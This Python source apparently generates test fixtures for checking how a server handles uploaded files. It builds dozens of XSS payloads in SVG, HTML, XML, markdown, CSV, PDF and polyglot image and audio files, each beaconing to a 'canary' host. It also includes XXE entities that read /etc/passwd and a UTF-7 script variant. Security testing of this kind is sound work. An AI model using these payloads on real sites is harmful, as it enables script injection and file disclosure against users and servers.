"""Files that would do something if a browser let them: call alert, or ask a server of their own."""

import gzip
import struct
import zlib

# As what each of them is declared, and what a name of that ends in.
DECLARED = {
    "text/html": "html",
    "image/svg+xml": "svg",
    "image/png": "png",
    "application/xhtml+xml": "xhtml",
    "text/plain": "txt",
    "application/pdf": "pdf",
}


def declared(files):
    """Each of them as each type: which trace it is in, its name, type and extension, and its bytes.

    They are others each time, because more space ends them: what is known of one is known of none before it.
    """
    for at, (kind, extension) in enumerate(DECLARED.items()):
        for name, file in files.items():
            yield f"{at + 1:x}6" * 16, name, kind, extension, file + b"\n" * at


def files(canary):
    """Sixty of them by name. Each names `canary`, which nobody is to ask."""
    script = f"alert(1);fetch('{canary}/fetch');new Image().src='{canary}/image';window.seized=1"
    tag = f"<script>{script}</script>"
    xml = '<?xml version="1.0"?>'
    ns = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    cdata = f"<script><![CDATA[{script}]]></script>"
    html = f"<!doctype html><html><body>{tag}</body></html>"
    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{cdata}</body></html>'
    texts = {
        # SVG
        "svg-script": f"<svg {ns}>{cdata}</svg>",
        "svg-onload": f'<svg {ns} onload="{script}"/>',
        "svg-foreign": f'<svg {ns}><foreignObject width="9" height="9">{xhtml}</foreignObject></svg>',
        "svg-iframe": f'<svg {ns}><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{canary}/frame"/></foreignObject></svg>',
        "svg-image": f'<svg {ns}><image href="{canary}/i.png" width="9" height="9"/></svg>',
        "svg-xlink": f'<svg {ns}><image xlink:href="{canary}/i.png" width="9" height="9"/></svg>',
        "svg-use": f'<svg {ns}><use href="{canary}/u.svg#a"/></svg>',
        "svg-style": f'<svg {ns}><style>@import url("{canary}/c.css");</style><rect width="9" height="9"/></svg>',
        "svg-font": f'<svg {ns}><style>@font-face{{font-family:a;src:url({canary}/f.woff)}}text{{font-family:a}}</style><text y="9">a</text></svg>',
        "svg-fill": f'<svg {ns}><rect width="9" height="9" fill="url({canary}/p.svg#a)"/></svg>',
        "svg-filter": f'<svg {ns}><filter id="f"><feImage href="{canary}/i.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
        "svg-animate": f'<svg {ns}><animate onbegin="{script}" attributeName="x" dur="1s"/></svg>',
        "svg-set": f'<svg {ns}><a><set attributeName="href" to="javascript:{script}"/><text y="9">a</text></a></svg>',
        "svg-handler": f'<svg {ns}><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{script}</handler></svg>',
        "svg-entity": f'{xml}<!DOCTYPE svg [<!ENTITY a SYSTEM "{canary}/e">]><svg {ns}><text y="9">&a;</text></svg>',
        "svg-xslt": f'{xml}<?xml-stylesheet type="text/xsl" href="{canary}/x.xsl"?><svg {ns}/>',
        "svg-css": f'{xml}<?xml-stylesheet href="{canary}/x.css"?><svg {ns}><rect width="9" height="9"/></svg>',
        "svg-link": f'<svg {ns}><a href="javascript:{script}"><rect width="999" height="999"/></a></svg>',
        "svg-comment": f"<!-- a --><svg {ns}>{cdata}</svg>",
        "svg-late": f"{xml}{'<!-- ' + 'x' * 5000 + ' -->'}<svg {ns} onload='{script.replace(chr(39), chr(34))}'/>",
        # HTML
        "html": html,
        "html-bare": tag,
        "html-img": f"<img src=x onerror=\"{script}\">",
        "html-body": f'<body onload="{script}">',
        "html-frame": f'<iframe src="{canary}/frame"></iframe>',
        "html-srcdoc": f'<iframe srcdoc="{tag.replace(chr(34), chr(39))}"></iframe>',
        "html-object": f'<object data="{canary}/o"></object><embed src="{canary}/e">',
        "html-refresh": f'<meta http-equiv="refresh" content="0;url={canary}/refresh">',
        "html-base": f'<base href="{canary}/"><script src="s.js"></script><link rel="stylesheet" href="c.css">',
        "html-link": f'<link rel="stylesheet" href="{canary}/c.css"><link rel="prefetch" href="{canary}/p">',
        "html-form": f'<form id="f" action="{canary}/form"><input name="a"></form><script>f.submit()</script>',
        "html-video": f'<video src="{canary}/v" autoplay></video><audio src="{canary}/a" autoplay></audio>',
        "html-ping": f'<a id="a" ping="{canary}/ping" href="#">a</a><script>a.click()</script>',
        "html-worker": f"<script>navigator.serviceWorker.register('x');{script}</script>",
        "html-popup": f"<script>open('{canary}/open');{script}</script>",
        "html-top": f"<script>top.location='{canary}/top';{script}</script>",
        "html-spaces": "\n\t  " * 300 + html,
        "html-upper": html.upper().replace("ALERT(1)", "alert(1)"),
        "html-text": "words before it\n" + html,
        "html-template": f"<style>@import '{canary}/c.css';</style>{tag}",
        # XML
        "xhtml": xml + xhtml,
        "xml-xhtml": f'{xml}<a><b xmlns="http://www.w3.org/1999/xhtml">{cdata.replace("<script", "<script xmlns=" + chr(34) + "http://www.w3.org/1999/xhtml" + chr(34))}</b></a>',
        "xml-xslt": f'{xml}<?xml-stylesheet type="text/xsl" href="#s"?><s id="s" xsl:version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">{xhtml}</s>',
        "xml-entity": f'{xml}<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd"><!ENTITY c SYSTEM "{canary}/c">]><a>&b;&c;</a>',
        "mathml": f'<math><maction actiontype="statusline" xlink:href="javascript:{script}">a</maction>{tag}</math>',
        # Texts
        "mhtml": f"From: <a>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{html}\r\n--b--\r\n",
        "markdown": f"# a\n\n{html}\n\n[a](javascript:{script}) ![b]({canary}/m.png) <{canary}/auto>\n\n<img src={canary}/i.png>\n",
        "json": '{"a":"' + html.replace('"', "'") + '","</script>' + tag.replace('"', "'") + '":1}',
        "csv": f'=HYPERLINK("{canary}/h","a"),{tag}\n' * 3,
        "css": f'@import "{canary}/c.css"; body{{background:url({canary}/b)}}',
        "javascript": script,
        "utf-7": f"+ADw-script+AD4-alert(1)+ADw-/script+AD4- {canary}",
    }
    many = {name: text.encode() for name, text in texts.items()}

    def chunk(kind, body):
        end = struct.pack(">I", zlib.crc32(kind + body))
        return struct.pack(">I", len(body)) + kind + body + end

    head = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    pixel = chunk(b"IDAT", zlib.compress(b"\0\1\2\3"))
    page = html.encode()
    many |= {
        # What is two things at once
        "png-html": head + chunk(b"tEXt", b"Comment\0" + page) + pixel + chunk(b"IEND", b"") + page,
        "gif-script": b"GIF89a/*" + page + b"*/=1;" + script.encode(),
        "jpeg-html": b"\xff\xd8\xff\xfe" + struct.pack(">H", len(page) + 2) + page + b"\xff\xd9",
        "wav-html": b"RIFF" + struct.pack("<I", len(page) + 4) + b"WAVE" + page,
        "pdf-script": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(" + script.encode() + b")>>>>endobj\n" + page,
        "zip-html": b"PK\x03\x04" + bytes(26) + page,
        # How bytes become letters
        "utf-16": b"\xff\xfe" + html.encode("utf-16-le"),
        "svgz": gzip.compress(texts["svg-script"].encode()),
    }
    # What is shorter than a reference is none, and stays in the span.
    return {name: file + b"\n" * max(0, 512 - len(file)) for name, file in many.items()}
